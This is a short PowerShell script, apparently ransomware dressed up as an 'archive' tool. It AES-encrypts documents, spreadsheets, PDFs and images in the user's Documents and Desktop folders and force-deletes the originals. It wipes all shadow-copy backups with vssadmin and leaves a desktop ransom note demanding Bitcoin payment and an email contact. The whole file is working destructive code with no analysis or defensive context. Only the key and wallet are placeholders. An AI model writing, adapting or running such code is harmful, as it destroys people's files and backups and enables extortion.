$key = [Text.Encoding]::UTF8.GetBytes('k3y-ARCHIVE-2024-FAKE-0000000000'.Substring(0,32))
$aes = [Security.Cryptography.Aes]::Create()
$aes.Key = $key
$targets = Get-ChildItem -Path "$env:USERPROFILE\Documents","$env:USERPROFILE\Desktop" -Recurse -File `
  -Include *.docx,*.xlsx,*.pptx,*.pdf,*.jpg,*.png -ErrorAction SilentlyContinue
foreach ($f in $targets) {
  $aes.GenerateIV()
  $plain = [IO.File]::ReadAllBytes($f.FullName)
  $enc = $aes.CreateEncryptor().TransformFinalBlock($plain, 0, $plain.Length)
  [IO.File]::WriteAllBytes($f.FullName + '.locked', $aes.IV + $enc)
  Remove-Item $f.FullName -Force
}
vssadmin delete shadows /all /quiet 2>$null
Set-Content "$env:USERPROFILE\Desktop\README_RESTORE.txt" `
  "Your files are archived. Send 0.05 BTC to bc1qFAKEFAKEFAKEFAKEFAKE and mail restore@archive-help.net"
Write-Output "Archived $($targets.Count) files"
